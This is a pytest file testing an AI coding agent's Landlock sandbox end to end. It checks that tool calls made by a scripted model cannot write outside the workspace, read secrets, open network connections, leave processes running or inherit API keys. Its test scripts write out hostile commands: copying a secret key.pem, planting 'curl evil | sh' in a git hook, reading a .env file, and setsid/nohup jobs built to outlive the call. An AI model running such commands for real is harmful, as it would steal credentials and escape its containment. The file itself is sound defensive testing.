"""The command sandbox, end to end through ``agentic-flow run``.

A scripted model (tests/llm_server.py) asks for tool calls; rules or ``--approve auto``
allow them; the assertions are about effects on real files, real sockets and real
processes. The point of every test: the permission layer said yes, and the sandbox
still holds. (CI runs as root: Landlock confines root too, and these tests run there.)
"""

from __future__ import annotations

import io
import json
import os
import socket
import sys
from pathlib import Path

import pytest
import yaml

from agentic_flow.core.cli import main
from agentic_flow.core.sandbox import DISABLE_ENV, detect_status
from tests.llm_server import Reply, llm_server  # noqa: F401

MODEL = "llamacpp:test-model"
SERVERS = Path(__file__).parent / "mcp_servers"

pytestmark = pytest.mark.skipif(
    not detect_status().available, reason="needs Landlock (Linux 5.13+); the fallback has its own tests below"
)


@pytest.fixture
def layout(tmp_path, monkeypatch):
    """ws/ (the workspace), outside/ (a sibling folder) and secret/ (a configured secret path)."""
    ws, outside, secret = tmp_path / "ws", tmp_path / "outside", tmp_path / "secret"
    for folder in (ws, outside, secret):
        folder.mkdir()
    (secret / "key.pem").write_text("SECRET-PEM-CONTENT\n")
    monkeypatch.chdir(ws)
    monkeypatch.setattr("sys.stdin", io.StringIO(""))
    return ws, outside, secret


def user_config(data: dict) -> None:
    home = Path(os.environ["AGENTIC_FLOW_HOME"])
    (home / "config.yaml").write_text(yaml.safe_dump(data))


def once_then_text(calls):
    def handler(req):
        return Reply.text("done") if req.tool_results() else Reply.tool_calls(calls)

    return handler


def run(server, *argv):
    """``agentic-flow run --json`` in-process; returns (exit code, events, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    real_out, real_err = sys.stdout, sys.stderr
    sys.stdout, sys.stderr = out, err
    try:
        code = main(["run", "--model", MODEL, "--base-url", server.openai_url, "--task", "go", "--json", *argv])
    finally:
        sys.stdout, sys.stderr = real_out, real_err
    events = [json.loads(line) for line in out.getvalue().splitlines() if line.startswith("{")]
    return code, events, err.getvalue()


def results(events):
    return {e["call_id"]: e for e in events if e["type"] == "tool_result"}


def decisions(events):
    return {e["call_id"]: e for e in events if e["type"] == "permission_decided"}


def bash(call_id, command, **extra):
    return (call_id, "bash", {"command": command, **extra})


class Listener:
    """A TCP listener on 127.0.0.1; ``connected()`` says whether anyone connected."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.setblocking(False)
        self.port = self.sock.getsockname()[1]

    def connected(self) -> bool:
        try:
            conn, _ = self.sock.accept()
        except BlockingIOError:
            return False
        conn.close()
        return True


@pytest.fixture
def listener():
    got = Listener()
    yield got
    got.sock.close()


def connect_command(port: int) -> str:
    code = f"import socket; socket.create_connection(('127.0.0.1', {port}), 3); print('CONNECTED')"
    return f"{sys.executable} -c \"{code}\""


# --------------------------------------------------------------------------- files


def test_an_allowed_command_cannot_write_outside_or_read_secrets(llm_server, layout):
    ws, outside, secret = layout
    user_config({"sandbox": {"deny_read": [str(secret)]}})
    (ws / "link_out").symlink_to(outside)  # a symlink inside the workspace cannot widen the policy
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / ".claude").mkdir()
    home_config = Path(os.environ["AGENTIC_FLOW_HOME"]) / "config.yaml"
    (ws / "attack.sh").write_text(
        "\n".join([
            f"echo pwned > {outside}/direct.txt",
            "echo pwned > link_out/through-link.txt",
            f"cp {secret}/key.pem stolen.txt",
            f"cat {secret}/key.pem",
            f"cat {home_config}",
            "echo '[alias]' >> .git/config",
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
            "echo '{}' > .claude/settings.local.json",
            "echo fine > inside.txt",
            "echo tmp > $TMPDIR/scratch && echo TMP-OK",
            "true",
        ])
    )
    # The rule allows exactly this plain command; what the script does is the sandbox's business.
    (ws / ".agentic-flow").mkdir()
    (ws / ".agentic-flow" / "settings.yaml").write_text(
        yaml.safe_dump({"permissions": {"allow": ["bash(bash attack.sh)"]}})
    )
    llm_server.set_handler(once_then_text([bash("c1", "bash attack.sh")]))
    code, events, err = run(llm_server)
    assert code == 0, err
    assert decisions(events)["c1"]["allowed"] and decisions(events)["c1"]["decided_by"].startswith("rule:")
    output = results(events)["c1"]["content"]
    assert (ws / "inside.txt").read_text() == "fine\n" and "TMP-OK" in output  # the workspace and TMPDIR work
    assert list(outside.iterdir()) == []
    assert not (ws / "stolen.txt").exists() and "SECRET-PEM-CONTENT" not in output
    assert "Permission denied" in output
    assert "deny_read" not in output  # agentic-flow's own config (it says deny_read) was not readable
    assert (ws / ".git" / "config").read_text() == "[core]\n"
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert not (ws / ".claude" / "settings.local.json").exists()


def test_auto_mode_command_cannot_write_outside(llm_server, layout):
    ws, outside, _ = layout
    target = outside / "auto.txt"
    command = f"{sys.executable} -c \"open('{target}', 'w').write('pwned')\"; echo ran"
    llm_server.set_handler(once_then_text([bash("c1", command)]))
    code, events, err = run(llm_server, "--approve", "auto")
    assert code == 0, err
    assert decisions(events)["c1"]["allowed"]
    assert "ran" in results(events)["c1"]["content"] and "Permission denied" in results(events)["c1"]["content"]
    assert not target.exists()


# --------------------------------------------------------------------------- network


def test_network_is_off_for_an_allowed_command(llm_server, layout, listener):
    port = listener.port
    llm_server.set_handler(once_then_text([bash("c1", connect_command(port))]))
    code, events, err = run(llm_server, "--approve", "auto")
    assert code == 0, err
    assert decisions(events)["c1"]["allowed"]
    assert "CONNECTED" not in results(events)["c1"]["content"]
    assert not listener.connected()


def test_network_setting_turns_it_on(llm_server, layout, listener):
    user_config({"sandbox": {"network": True}})
    port = listener.port
    llm_server.set_handler(once_then_text([bash("c1", connect_command(port))]))
    code, events, err = run(llm_server, "--approve", "auto")
    assert code == 0, err
    assert "CONNECTED" in results(events)["c1"]["content"]
    assert listener.connected()


def test_network_argument_asks_and_is_denied_headless_even_in_auto(llm_server, layout, listener):
    port = listener.port
    llm_server.set_handler(once_then_text([bash("c1", connect_command(port), network=True)]))
    code, events, err = run(llm_server, "--approve", "auto")
    assert code == 0, err
    decided = decisions(events)["c1"]
    assert not decided["allowed"] and "needs network" in decided["reason"]
    assert not listener.connected()


def test_network_argument_allowed_by_a_rule_connects(llm_server, layout, listener):
    ws, _, _ = layout
    port = listener.port
    (ws / "fetch.sh").write_text(connect_command(port) + "\n")
    (ws / ".agentic-flow").mkdir()
    (ws / ".agentic-flow" / "settings.yaml").write_text(
        yaml.safe_dump({"permissions": {"allow": ["bash(bash fetch.sh)"]}})
    )
    llm_server.set_handler(once_then_text([bash("c1", "bash fetch.sh", network=True)]))
    code, events, err = run(llm_server)
    assert code == 0, err
    assert decisions(events)["c1"]["allowed"]
    assert "CONNECTED" in results(events)["c1"]["content"] and listener.connected()


# --------------------------------------------------------------------------- processes


def alive(pid: int) -> bool:
    """Running (not a zombie) according to /proc."""
    try:
        with open(f"/proc/{pid}/stat", "rb") as handle:
            state = handle.read().rsplit(b")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state not in (b"Z", b"X")


def test_no_process_of_a_call_survives_the_call(llm_server, layout):
    ws, _, _ = layout
    # A script: no mode approves background jobs and loops typed on the command line
    # (they are not plain commands), but `bash bg.sh` is plain; the sandbox sees it all.
    (ws / "bg.sh").write_text(
        "setsid sleep 100 & echo $! > pid-setsid\n"
        "sleep 100 >/dev/null & echo $! > pid-quiet\n"
        "(setsid bash -c 'sleep 100 & echo $! > pid-double' &)\n"
        "nohup sleep 100 >/dev/null 2>&1 & echo $! > pid-nohup\n"
        "while [ ! -s pid-double ]; do :; done; echo started\n"
    )
    llm_server.set_handler(once_then_text([bash("c1", "bash bg.sh")]))
    code, events, err = run(llm_server, "--approve", "auto")
    assert code == 0, err
    assert "started" in results(events)["c1"]["content"]
    pids = {name: int((ws / name).read_text()) for name in ("pid-setsid", "pid-quiet", "pid-double", "pid-nohup")}
    assert {name: alive(pid) for name, pid in pids.items()} == dict.fromkeys(pids, False)
    assert "stopped" in results(events)["c1"]["content"]  # the model is told its background jobs were stopped


# --------------------------------------------------------------------------- environment


def test_commands_get_no_keys_unless_allowlisted(llm_server, layout, monkeypatch):
    ws, _, _ = layout
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-openai-0123456789abcdef")
    monkeypatch.setenv("LAB_CREDENTIAL", "lab-credential-value-123")  # a provider's custom api_key_env
    monkeypatch.setenv("DEPLOY_TOKEN", "deploy-token-value-456")
    monkeypatch.setenv("SERVICE_SECRET", "service-secret-value-789")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp-allowed-value-000")
    monkeypatch.setenv("HARMLESS_SETTING", "kept")
    user_config({
        "providers": {"lab": {"kind": "openai", "base_url": "http://127.0.0.1:9/v1", "api_key_env": "LAB_CREDENTIAL"}},
        "sandbox": {"env_allow": ["GITHUB_TOKEN"]},
    })
    llm_server.set_handler(once_then_text([bash("c1", "env > env.txt; echo listed")]))
    code, events, err = run(llm_server, "--approve", "auto")
    assert code == 0, err
    names = {line.split("=", 1)[0] for line in (ws / "env.txt").read_text().splitlines() if "=" in line}
    assert not names & {"OPENAI_API_KEY", "LAB_CREDENTIAL", "DEPLOY_TOKEN", "SERVICE_SECRET"}
    assert {"GITHUB_TOKEN", "HARMLESS_SETTING", "PATH", "TMPDIR"} <= names


# --------------------------------------------------------------------------- MCP servers


def writer_entry(*extra_args, **options):
    return {"command": sys.executable, "args": [str(SERVERS / "writer_server.py"), *extra_args], **options}


def test_mcp_stdio_server_runs_inside_the_sandbox(llm_server, layout):
    ws, outside, _ = layout
    user_config({"mcpServers": {"writer": writer_entry()}})
    calls = [
        ("c1", "mcp__writer__write", {"path": str(outside / "mcp.txt"), "text": "pwned"}),
        ("c2", "mcp__writer__write", {"path": str(ws / "mcp.txt"), "text": "fine"}),
    ]
    llm_server.set_handler(once_then_text(calls))
    code, events, err = run(llm_server, "--approve", "auto")
    assert code == 0, err
    got = results(events)
    assert "Permission denied" in got["c1"]["content"] and not (outside / "mcp.txt").exists()
    assert got["c2"]["content"].startswith("wrote") and (ws / "mcp.txt").read_text() == "fine"


def test_mcp_server_opts_out_in_the_user_config_only(llm_server, layout):
    ws, outside, _ = layout
    user_config({"mcpServers": {"mine": writer_entry("--write-on-start", str(outside / "mine.txt"), sandbox=False)}})
    (ws / ".mcp.json").write_text(json.dumps(
        {"mcpServers": {"repo": writer_entry("--write-on-start", str(outside / "repo.txt"), sandbox=False)}}
    ))
    llm_server.set_handler(once_then_text([]))
    code, _, err = run(llm_server, "--approve", "auto", "--trust-mcp", "repo")  # a trusted project server...
    assert code == 0, err
    assert (outside / "mine.txt").read_text() == "started"  # the user said so for their own server
    assert not (outside / "repo.txt").exists()  # a repository cannot take its server out of the sandbox
    assert "is ignored" in err


def test_read_only_mode_gives_mcp_servers_a_read_only_sandbox(llm_server, layout):
    ws, _, _ = layout
    user_config({"mcpServers": {"writer": writer_entry("--write-on-start", str(ws / "started.txt"))}})
    llm_server.set_handler(once_then_text([]))
    code, _, err = run(llm_server, "--approve", "read-only")
    assert code == 0, err
    assert not (ws / "started.txt").exists()
    code, _, err = run(llm_server, "--approve", "accept-edits")
    assert code == 0, err
    assert (ws / "started.txt").read_text() == "started"


# --------------------------------------------------------------------------- doctor


def test_doctor_reports_the_sandbox_and_its_self_test(layout, capsys):
    code = main(["doctor"])
    out = capsys.readouterr().out
    assert code == 0, out
    assert f"Landlock ABI {detect_status().abi}" in out
    assert "network: off" in out and "writable (ask, accept-edits, auto):" in out
    assert "self-test: write outside the workspace refused ✓" in out
    assert "self-test: TCP connection to 127.0.0.1 refused ✓" in out
    assert "MCP servers" in out


# --------------------------------------------------------------------------- settings a repository cannot change


def test_a_repository_cannot_widen_its_own_sandbox(llm_server, layout, listener):
    ws, outside, _ = layout
    (ws / ".agentic-flow").mkdir()
    (ws / ".agentic-flow" / "settings.yaml").write_text(
        yaml.safe_dump({"sandbox": {"network": True, "writable": [str(outside)], "enabled": False}})
    )
    command = f"{connect_command(listener.port)}; {sys.executable} -c \"open('{outside}/repo.txt', 'w')\""
    llm_server.set_handler(once_then_text([bash("c1", command)]))
    code, events, err = run(llm_server, "--approve", "auto")
    assert code == 0, err
    assert decisions(events)["c1"]["allowed"]
    assert not listener.connected() and not (outside / "repo.txt").exists()
    assert "cannot change its own sandbox" in err


def test_a_secret_inside_the_workspace_stays_unreadable(llm_server, layout):
    ws, _, _ = layout
    (ws / ".env").write_text("API_PASSWORD=hunter2-in-dotenv\n")
    (ws / "src").mkdir()
    user_config({"sandbox": {"deny_read": [str(ws / ".env")]}})
    command = "cat .env; echo edited > src/file.txt; cat src/file.txt"
    llm_server.set_handler(once_then_text([bash("c1", command)]))
    code, events, err = run(llm_server, "--approve", "auto")
    assert code == 0, err
    output = results(events)["c1"]["content"]
    assert "hunter2" not in output and "Permission denied" in output
    assert (ws / "src" / "file.txt").read_text() == "edited\n"


async def test_check_commands_of_compare_run_in_the_sandbox(tmp_path):
    from agentic_flow.core.compare.codecheck import run_check_command
    from agentic_flow.core.permissions import PermissionEngine, PolicyApprover

    outside = tmp_path / "outside.txt"
    engine = PermissionEngine("auto", workspace=tmp_path)
    answer = "```python\nprint('hi')\n```\n"
    result = await run_check_command(
        f"python3 {{file}} && {sys.executable} -c \"open('{outside}', 'w')\"", answer,
        engine=engine, approver=PolicyApprover("deny"),
    )
    assert result.allowed and result.exit_code == 1
    assert "hi" in result.output and "Permission denied" in result.output
    assert not outside.exists()
